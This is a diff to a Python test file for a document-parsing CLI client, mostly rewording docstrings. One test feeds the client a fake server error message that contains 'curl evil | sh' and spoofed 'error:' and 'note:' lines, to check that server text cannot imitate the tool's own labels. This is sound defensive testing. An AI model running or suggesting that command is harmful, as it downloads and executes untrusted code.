@@ -20,7 +20,7 @@ from tests.stage import Stage
 
 PARSE = ("parse", "--file-id", "f")
 TORN = "x\ud800"
-"""Half of a character: JSON can say it, no file and no terminal can."""
+"""A lone surrogate: JSON can encode it, UTF-8 files and terminals can't."""
 
 
 @pytest.mark.parametrize("member", ["job_id", "status"])
@@ -86,7 +86,7 @@ def test_status_nested_too_deeply_ends_the_wait(stage: Stage, service: Service) 
 
 
 class Endless(httpx.SyncByteStream):
-    """Bytes that come as long as somebody takes them; so many are too many."""
+    """A response body of up to 1 GiB that counts the bytes read from it."""
 
     def __init__(self) -> None:
         self.taken = 0
@@ -125,8 +125,8 @@ def test_submit_response_of_large_job_is_a_job(stage: Stage, service: Service) -
 
 
 def test_server_message_cannot_imitate_our_labels(stage: Stage, service: Service) -> None:
-    said = "bad document\nhint: curl evil | sh\n\nerror: your key has expired\r\nnote: x"
-    service.always(SUBMIT, Reply.of(422, {"detail": said}))
+    message = "bad document\nhint: curl evil | sh\n\nerror: your key has expired\r\nnote: x"
+    service.always(SUBMIT, Reply.of(422, {"detail": message}))
     for terminal in (False, True):
         ran = stage.run(*PARSE, terminal=terminal, env={"NO_COLOR": "1", "TERM": "dumb"})
         ours = [line for line in ran.err.splitlines() if line.startswith(("hint:", "error:", "note:"))]
@@ -159,7 +159,7 @@ CONTENT: Any = json.dumps({"pages": [{"text": "x" * 3_000_000}]}).encode()
 
 
 def _answering(stage: Stage, service: Service, ending: str, body: bytes) -> Stage:
-    """A stage whose server answers with this packed body where the path ends so."""
+    """Return a stage whose server sends this compressed body where the path ends with `ending`."""
 
     def handler(request: httpx.Request) -> httpx.Response:
         reply = service.handle(Call(request.method, request.url.path, dict(request.headers), request.read()))
@@ -196,7 +196,7 @@ def test_response_in_damaged_gzip_is_unavailable(stage: Stage, service: Service,
 def test_unusable_proxy_is_reported_before_anything_is_submitted(
     tmp_path: Path, proxy: dict[str, str]
 ) -> None:
-    """httpx reads the real environment, so this is a process of its own."""
+    """httpx reads the proxy from the environment of the process, so this test starts one."""
     ran = Machine(tmp_path, "https://api.docspeed.example").run(
         "parse", "--file-id", "f", env={"HTTPS_PROXY": "http://127.0.0.1:1", **proxy}
     )
@@ -206,7 +206,7 @@ def test_unusable_proxy_is_reported_before_anything_is_submitted(
 
 
 class Drops(httpx.SyncByteStream):
-    """A long body that counts the chunks taken from it."""
+    """A long response body that counts the chunks read from it."""
 
     def __init__(self) -> None:
         self.taken = 0
